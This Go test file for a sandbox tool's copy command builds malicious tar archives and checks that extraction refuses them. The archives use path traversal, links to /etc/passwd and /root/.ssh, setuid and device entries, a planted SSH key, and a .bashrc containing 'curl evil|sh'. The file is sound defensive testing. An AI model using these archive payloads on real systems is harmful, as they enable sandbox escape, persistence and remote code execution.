package main

import (
	"archive/tar"
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/managoat/managoat/internal/testenv"
)

// ent is one entry of a test tar stream.
type ent struct {
	name, link, body string
	typ              byte
	mode             int64
}

func mkTar(t *testing.T, ents ...ent) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, e := range ents {
		mode := e.mode
		if mode == 0 {
			mode = 0o644
			if e.typ == tar.TypeDir {
				mode = 0o755
			}
		}
		h := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: e.typ, Mode: mode, Size: int64(len(e.body)),
			ModTime: time.Unix(1700000000, 0), Format: tar.FormatPAX}
		if e.typ != tar.TypeReg {
			h.Size = 0
		}
		if e.typ == tar.TypeChar {
			h.Devmajor, h.Devminor = 1, 3
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func dirEnt(n string) ent        { return ent{name: n, typ: tar.TypeDir} }
func fileEnt(n, body string) ent { return ent{name: n, body: body, typ: tar.TypeReg} }

// hostileStreams are what a sandbox's own tar may send for `cp box:x
// DEST`: each must fail the copy with nothing written outside DEST (and,
// DEST not existing before, nothing at all).
func hostileStreams(t *testing.T) map[string][]byte {
	return map[string][]byte{
		"authorized_keys beside a file": mkTar(t, fileEnt("x", "data"), dirEnt(".ssh"), fileEnt(".ssh/authorized_keys", "ssh-ed25519 AAAA attacker")),
		"bashrc beside a file":          mkTar(t, fileEnt("x", "data"), fileEnt(".bashrc", "curl evil|sh")),
		"bashrc beside a directory":     mkTar(t, dirEnt("x"), fileEnt("x/ok", "ok"), fileEnt(".bashrc", "curl evil|sh")),
		"dot-dot":                       mkTar(t, dirEnt("x"), fileEnt("x/../x2", "out")),
		"dot-dot at the top":            mkTar(t, dirEnt("x"), fileEnt("../escaped", "out")),
		"absolute":                      mkTar(t, dirEnt("x"), fileEnt("/tmp/managoat-cp-absolute", "out")),
		"an entry before the top":       mkTar(t, fileEnt("y", "first"), fileEnt("x", "data")),
		"setuid file":                   mkTar(t, dirEnt("x"), ent{name: "x/suid", typ: tar.TypeReg, body: "#!/bin/sh", mode: 0o4755}, fileEnt(".bashrc", "late")),
		"device node":                   mkTar(t, dirEnt("x"), ent{name: "x/null", typ: tar.TypeChar}),
		"fifo":                          mkTar(t, dirEnt("x"), ent{name: "x/fifo", typ: tar.TypeFifo}),
		"hard link to /etc/passwd":      mkTar(t, dirEnt("x"), ent{name: "x/passwd", typ: tar.TypeLink, link: "/etc/passwd"}),
		"hard link out by dot-dot":      mkTar(t, dirEnt("x"), ent{name: "x/passwd", typ: tar.TypeLink, link: "x/../../etc/passwd"}),
		"symlink to /etc":               mkTar(t, dirEnt("x"), ent{name: "x/etc", typ: tar.TypeSymlink, link: "/etc"}),
		"symlink up":                    mkTar(t, dirEnt("x"), ent{name: "x/up", typ: tar.TypeSymlink, link: "../.."}),
		// Each link stays in the copy by its text; together they leave it.
		"chained symlinks": mkTar(t, dirEnt("x"), dirEnt("x/sub"), ent{name: "x/sub/p", typ: tar.TypeSymlink, link: ".."},
			ent{name: "x/t", typ: tar.TypeSymlink, link: "sub/p/.."}),
		"write through a symlink": mkTar(t, dirEnt("x"), ent{name: "x/l", typ: tar.TypeSymlink, link: "."}, ent{name: "x/l/../../y", typ: tar.TypeReg}),
		"a file's copy with more": mkTar(t, fileEnt("x", "data"), fileEnt("x/more", "m")),
		"a top symlink":           mkTar(t, ent{name: "x", typ: tar.TypeSymlink, link: "/root/.ssh"}),
	}
}

// listTree is every path under dir, relative.
func listTree(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && p != dir {
			r, _ := filepath.Rel(dir, p)
			out = append(out, r)
		}
		return nil
	})
	return out
}

// TestCpExtractRefusesHostileStreams: every hostile stream fails the copy
// and leaves the destination's parent as it was: nothing beside the
// destination, and no destination (fails on the old extractTar: it wrote
// .ssh/authorized_keys and .bashrc beside the file and exited 0).
func TestCpExtractRefusesHostileStreams(t *testing.T) {
	for name, stream := range hostileStreams(t) {
		t.Run(name, func(t *testing.T) {
			home := t.TempDir()
			parent := filepath.Join(home, "dl")
			if err := os.Mkdir(parent, 0o755); err != nil {
				t.Fatal(err)
			}
			err := extractTo(bytes.NewReader(stream), filepath.Join(parent, "dest"), "x")
			if err == nil {
				t.Fatal("extracted; want an error")
			}
			if got := listTree(t, home); !slices.Equal(got, []string{"dl"}) {
				t.Errorf("after the refused copy (%v) the host has %v", err, got)
			}
			if _, err := os.Lstat("/tmp/managoat-cp-absolute"); err == nil {
				os.Remove("/tmp/managoat-cp-absolute")
				t.Error("an absolute entry was written")
			}
			// The same into an existing directory: nothing outside it, and
			// no symlink left in it.
			into := filepath.Join(parent, "into")
			if err := os.Mkdir(into, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(home, "keep"), []byte("k"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := extractTo(bytes.NewReader(stream), into, "x"); err == nil {
				t.Fatal("extracted into a directory; want an error")
			}
			for _, p := range listTree(t, home) {
				if p != "dl" && p != "keep" && p != "dl/into" && !strings.HasPrefix(p, "dl/into/") {
					t.Errorf("written outside the destination: %s", p)
				}
				if st, err := os.Lstat(filepath.Join(home, p)); err == nil && (st.Mode()&fs.ModeSymlink != 0 || st.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeDevice|fs.ModeNamedPipe) != 0) {
					t.Errorf("%s left with mode %v", p, st.Mode())
				}
			}
			if b, _ := os.ReadFile(filepath.Join(home, "keep")); string(b) != "k" {
				t.Errorf("a file outside the destination changed: %q", b)
			}
		})
	}
}

// TestCpExtractKeepsAGoodTree: a tree with a file, a relative symlink in
// the copy, a hard link between its files and a setuid file lands as the
// destination, the link kept, the set-id bit dropped; a copy over an
// existing file that is a hard link replaces the link, never writes
// through it; holes of zeros stay holes.
func TestCpExtractKeepsAGoodTree(t *testing.T) {
	dir := t.TempDir()
	stream := mkTar(t, dirEnt("x"), dirEnt("x/sub"), fileEnt("x/sub/f", "hello"),
		ent{name: "x/link", typ: tar.TypeSymlink, link: "sub/f"},
		ent{name: "x/hard", typ: tar.TypeLink, link: "x/sub/f"},
		ent{name: "x/suid", typ: tar.TypeReg, body: "#!/bin/sh", mode: 0o6755})
	if err := extractTo(bytes.NewReader(stream), filepath.Join(dir, "dest"), "x"); err != nil {
		t.Fatal(err)
	}
	if got := listTree(t, dir); !slices.Equal(got, []string{"dest", "dest/hard", "dest/link", "dest/sub", "dest/sub/f", "dest/suid"}) {
		t.Errorf("tree %v", got)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "dest/link")); err != nil || string(b) != "hello" {
		t.Errorf("link reads %q %v", b, err)
	}
	if st, _ := os.Stat(filepath.Join(dir, "dest/suid")); st == nil || st.Mode() != 0o755 {
		t.Errorf("setuid file landed as %v", st)
	}
	// A file over a host file that is a hard link to another.
	other := filepath.Join(dir, "other")
	if err := os.WriteFile(other, []byte("host"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(other, filepath.Join(dir, "f")); err != nil {
		t.Fatal(err)
	}
	if err := extractTo(bytes.NewReader(mkTar(t, fileEnt("x", "new"))), filepath.Join(dir, "f"), "x"); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(other); string(b) != "host" {
		t.Errorf("written through a hard link: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "f")); string(b) != "new" {
		t.Errorf("the copy reads %q", b)
	}
	// 64 MiB of zeros take no disk.
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	_ = tw.WriteHeader(&tar.Header{Name: "x", Typeflag: tar.TypeReg, Mode: 0o644, Size: 64 << 20})
	_, _ = tw.Write(make([]byte, 64<<20))
	_ = tw.Close()
	if err := extractTo(&b, filepath.Join(dir, "zeros"), "x"); err != nil {
		t.Fatal(err)
	}
	var st syscall.Stat_t
	if err := syscall.Stat(filepath.Join(dir, "zeros"), &st); err != nil || st.Size != 64<<20 || st.Blocks*512 > 1<<20 {
		t.Errorf("zeros: size %d, %d bytes on disk (%v)", st.Size, st.Blocks*512, err)
	}
}

// TestCpFilterRefusesHostileStreams: cp NAME:PATH - passes on no entry
// that extractTo would refuse.
func TestCpFilterRefusesHostileStreams(t *testing.T) {
	for name, stream := range hostileStreams(t) {
		if name == "chained symlinks" {
			continue // each entry alone stays in the copy; only writing them resolves them
		}
		var out bytes.Buffer
		if err := filterTar(bytes.NewReader(stream), &out, "x"); err == nil {
			t.Errorf("%s: passed on", name)
		}
	}
	var out bytes.Buffer
	if err := filterTar(bytes.NewReader(mkTar(t, dirEnt("x"), ent{name: "x/s", typ: tar.TypeReg, body: "b", mode: 0o4755})), &out, "x"); err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(&out)
	for h, err := tr.Next(); err == nil; h, err = tr.Next() {
		if h.Mode&^0o777 != 0 {
			t.Errorf("%s passed on with mode %o", h.Name, h.Mode)
		}
	}
}

// TestCpPlantedTar: in a real sandbox, a tar of the sandbox's own first on
// PATH (~/.local/bin/tar) answers cp with each hostile stream in turn;
// every cp fails and nothing lands on the host but (for none of them) the
// destination: no .ssh/authorized_keys, no .bashrc in the host's HOME. A
// cp from the home never runs the planted tar (the host reads the home
// itself) and copies the real file.
func TestCpPlantedTar(t *testing.T) {
	testenv.RequireRoot(t)
	state := t.TempDir()
	env := []string{"MANAGOAT_HOME=" + state}
	mg := func(args ...string) string {
		t.Helper()
		out, e, code := managoatEnv(t, env, args...)
		if code != 0 {
			t.Fatalf("%v: exit %d %s", args, code, e)
		}
		return out
	}
	mg("create", "plant")
	t.Cleanup(func() { managoatEnv(t, env, "rm", "-f", "plant") })
	streams := hostileStreams(t)
	names := make([]string, 0, len(streams))
	up := t.TempDir()
	for name, s := range streams {
		f := filepath.Join(up, "evil-"+string(rune('a'+len(names)))+".tar")
		if err := os.WriteFile(f, s, 0o644); err != nil {
			t.Fatal(err)
		}
		names = append(names, name)
	}
	if err := os.WriteFile(filepath.Join(up, "tar"), []byte(`#!/bin/sh
n=$(cat /tmp/n 2>/dev/null || echo 0)
echo $((n+1)) > /tmp/n
touch /tmp/planted-tar-ran
set -- /home/sprite/evil/*.tar
shift $n
cat "$1"
`), 0o755); err != nil {
		t.Fatal(err)
	}
	mg("exec", "plant", "--", "mkdir", "-p", "/home/sprite/.local/bin")
	mg("cp", up, "plant:/home/sprite/evil") // not there: the copy is it
	mg("exec", "plant", "--", "sh", "-c", "mv /home/sprite/evil/tar /home/sprite/.local/bin/tar && echo secret > /tmp/x && echo mine > /home/sprite/x && command -v tar")
	host := t.TempDir() // the host user's HOME
	for i := range names {
		_, e, code := runBinary(t, nil, append(env, "HOME="+host), "cp", "plant:/tmp/x", filepath.Join(host, "x"))
		if code == 0 {
			t.Errorf("cp #%d through the planted tar succeeded", i)
		} else if !strings.Contains(e, "tar entry") && !strings.Contains(e, "link") && !strings.Contains(e, "follows") {
			t.Logf("cp #%d: %s", i, strings.TrimSpace(e))
		}
		if got := listTree(t, host); len(got) != 0 {
			t.Fatalf("cp #%d left %v in the host's HOME", i, got)
		}
	}
	if out := mg("exec", "plant", "--", "cat", "/tmp/n"); strings.TrimSpace(out) != strconv.Itoa(len(names)) {
		t.Fatalf("the planted tar ran %q times, want %d", out, len(names))
	}
	// From the home: read by the host, the planted tar not run.
	mg("exec", "plant", "--", "rm", "-f", "/tmp/planted-tar-ran")
	mg("cp", "plant:/home/sprite/x", filepath.Join(host, "x"))
	if b, err := os.ReadFile(filepath.Join(host, "x")); err != nil || string(b) != "mine\n" {
		t.Errorf("cp from the home: %q %v", b, err)
	}
	if _, _, code := managoatEnv(t, env, "exec", "plant", "--", "test", "-e", "/tmp/planted-tar-ran"); code == 0 {
		t.Error("cp from the home ran the sandbox's tar")
	}
}
